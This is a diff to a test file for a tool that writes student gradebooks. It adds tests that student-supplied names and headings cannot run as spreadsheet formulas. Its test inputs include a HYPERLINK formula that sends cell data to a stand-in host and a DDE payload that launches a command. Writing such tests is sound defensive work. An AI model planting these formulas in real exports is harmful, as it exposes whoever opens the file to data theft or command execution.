@@ -9,15 +9,19 @@ import shutil
 from pathlib import Path
 
 import pytest
+import yaml
 from disguise import reformatted, renamed
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from helpers import ROOT, SUBMISSIONS, lmgrade
 from lmgrade import templates
 from lmgrade.regrade import discover, regrade
+from lmgrade.regrade.cells import FORMULA_STARTS
 from lmgrade.regrade.executor import Executor
 from lmgrade.regrade.gradebook import CANVAS, GRADESCOPE, write_gradebooks
 from lmgrade.regrade.graded import CheckScore, Graded, grade_folder
-from lmgrade.regrade.layout import METADATA
+from lmgrade.regrade.layout import METADATA, Student, SubmissionFolder
 
 EXPORT = """\
 submission_3:
@@ -102,8 +106,11 @@ def test_every_student_gets_a_row_with_their_submission_s_score(tmp_path):
     # A group's members each get the group's score; a student without an SID keeps the email to match by.
     assert by_email["one@example.edu"][score] == by_email["two@example.edu"][score] == "10"
     assert by_email["two@example.edu"]["Name"] == "Two, Pair" and by_email["two@example.edu"]["SID"] == ""
-    # Not graded (a harness fault): the row is there, its score empty, so an import records no 0.
-    assert by_email["cy@example.edu"][score] == ""
+    # Not graded (a harness fault): the row is there, scored 0, never empty (an import would keep an earlier
+    # grade); the note says, in one line, what to do before importing.
+    assert by_email["cy@example.edu"][score] == "0"
+    failed = [line for line in note.splitlines() if "could not be graded" in line]
+    assert len(failed) == 1 and "submission_20" in failed[0] and "before importing" in failed[0]
     # A folder the metadata does not list: named by its folder, and the note says it cannot be matched.
     assert by_email[""]["Name"] == "late_upload" and by_email[""][score] == "2"
     assert "late_upload" in note and "named by their folders" in note
@@ -190,8 +197,8 @@ def test_a_regrade_writes_the_gradebooks_and_a_review_queue_whose_links_lead_to_
     links = re.findall(r'<a href="([^"]+)">([^<]+)</a>', queue)
     assert [key for _, key in links] == ["submission_3", "submission_12"]
     assert all((out / href).is_file() for href, _ in links)
-    assert "near-duplicate of submission_12" in queue and "submission_20" not in queue
-    assert 'id="to-review">2<' in html
+    assert "1 near-duplicate pair" in queue and "submission_20" not in queue
+    assert 'id="to-review">1<' in html  # one group, once
 
 
 def test_the_command_names_the_gradebooks_and_says_when_students_are_folder_names(tmp_path, reference_submission):
@@ -214,3 +221,34 @@ def test_names_with_commas_quotes_and_accents_survive_both_formats(tmp_path, nam
     (gradescope, canvas), _ = write_gradebooks(tmp_path / "scores.csv", "ngram", {}, rows)
     assert read_gradescope_upload(gradescope)[1][0]["Name"] == name
     assert read_canvas_import(canvas)[1][0]["Student"] == name
+
+
+FORMULAS = ['=HYPERLINK("http://x/?"&C2,"Ada")', "=1+1", "+1", "-2+3", "@SUM(A1:A2)", "\tTab", "\rCR"]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_no_cell_a_student_wrote_is_a_formula(tmp_path, text):
+    """Names, SIDs and emails come from students: OWASP's rule makes each a text cell; the scores stay numbers."""
+    root = tmp_path / "export"
+    (root / "s1").mkdir(parents=True)
+    student = {"name": text, "sid": text, "email": text}
+    (root / METADATA).write_text(yaml.safe_dump({"s1": {":submitters": [{f":{k}": v for k, v in student.items()}]}}))
+    rows = [(s, _graded(1)) for s in discover(root).submissions]
+    (gradescope, canvas), _ = write_gradebooks(tmp_path / "scores.csv", "=cmd|' /C calc'!A0", {}, rows)
+    (row,) = read_gradescope_upload(gradescope)[1]
+    assert row["Name"] == row["SID"] == row["Email"] == "'" + text and row["Total Score"] == "1"
+    (heading,), (imported,) = read_canvas_import(canvas)
+    assert heading.startswith("'=") and imported["Student"] == "'" + text and imported[heading] == "1"
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.text(max_size=40), st.text(max_size=40))
+def test_any_name_is_written_as_text_that_no_spreadsheet_runs(tmp_path_factory, name, sid):
+    tmp_path = tmp_path_factory.mktemp("cells")
+    rows = [(SubmissionFolder("s1", tmp_path, (Student(name, "e@x", sid),)), _graded(1))]
+    (gradescope, canvas), _ = write_gradebooks(tmp_path / "scores.csv", "ngram", {}, rows)
+    for path in (gradescope, canvas):
+        with open(path, newline="", encoding="utf-8") as f:
+            cells = [cell for line in csv.reader(f) for cell in line]
+        assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)
+        assert "1" in cells
